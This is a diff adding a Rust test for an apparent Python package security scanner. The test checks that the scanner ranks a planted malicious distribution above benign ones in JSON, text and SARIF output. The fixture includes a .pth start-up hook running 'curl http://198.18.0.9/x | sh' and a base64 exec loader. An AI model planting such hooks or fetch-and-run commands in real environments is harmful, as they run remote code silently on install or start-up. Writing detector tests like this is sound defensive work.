@@ -178,3 +178,45 @@ fn shards_partition_the_input_and_merge_back() {
     let out = pysbx(dir.path()).args(["scan", "--shard", "4/3", "."]).output().unwrap();
     assert_eq!(out.status.code(), Some(2));
 }
+
+#[test]
+fn site_packages_summary_ranks_the_malicious_distribution_first() {
+    let dir = repo();
+    let site = "venv/lib/python3.11/site-packages";
+    // A benign library with one audit-level finding.
+    write(dir.path(), &format!("{site}/calm/__init__.py"), "import subprocess\n");
+    write(dir.path(), &format!("{site}/calm-2.0.dist-info/RECORD"), "calm/__init__.py,,\ncalm-2.0.dist-info/RECORD,,\n");
+    // A library with a real but ordinary capability.
+    write(dir.path(), &format!("{site}/fetcher/net.py"), "import urllib.request\nurllib.request.urlopen(u)\n");
+    write(dir.path(), &format!("{site}/fetcher-1.1.dist-info/RECORD"), "fetcher/net.py,,\n");
+    // The malicious one: a start-up hook and a decoded payload.
+    write(dir.path(), &format!("{site}/evil_init.pth"), "import os; os.system('curl http://198.18.0.9/x | sh')\n");
+    write(
+        dir.path(),
+        &format!("{site}/evilpkg/__init__.py"),
+        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
+    );
+    write(
+        dir.path(),
+        &format!("{site}/evilpkg-0.0.1.dist-info/RECORD"),
+        "evilpkg/__init__.py,,\nevil_init.pth,,\n",
+    );
+    let out = pysbx(dir.path()).args(["scan", "--format", "json", site]).output().unwrap();
+    let doc = json(&out);
+    assert_eq!(doc["stats"]["audit_mode"], true);
+    let dists = doc["distributions"].as_array().unwrap_or_else(|| panic!("{doc}"));
+    let names: Vec<&str> = dists.iter().map(|d| d["name"].as_str().unwrap()).collect();
+    assert_eq!(names[0], "evilpkg 0.0.1", "{names:?}");
+    assert!(names.contains(&"calm 2.0") && names.contains(&"fetcher 1.1"), "{names:?}");
+    assert!(dists[0]["install_time"].as_u64().unwrap() >= 1, "{doc}");
+    // The same ranking in the text summary.
+    let out = pysbx(dir.path()).args(["scan", site]).output().unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    let table = text.split("distributions by risk:").nth(1).unwrap_or_else(|| panic!("{text}"));
+    let first_row = table.lines().nth(2).unwrap();
+    assert!(first_row.trim_start().starts_with("evilpkg 0.0.1"), "{table}");
+    // And as SARIF run properties.
+    let out = pysbx(dir.path()).args(["scan", "--format", "sarif", site]).output().unwrap();
+    let sarif = json(&out);
+    assert_eq!(sarif["runs"][0]["properties"]["distributions"][0]["name"], "evilpkg 0.0.1");
+}
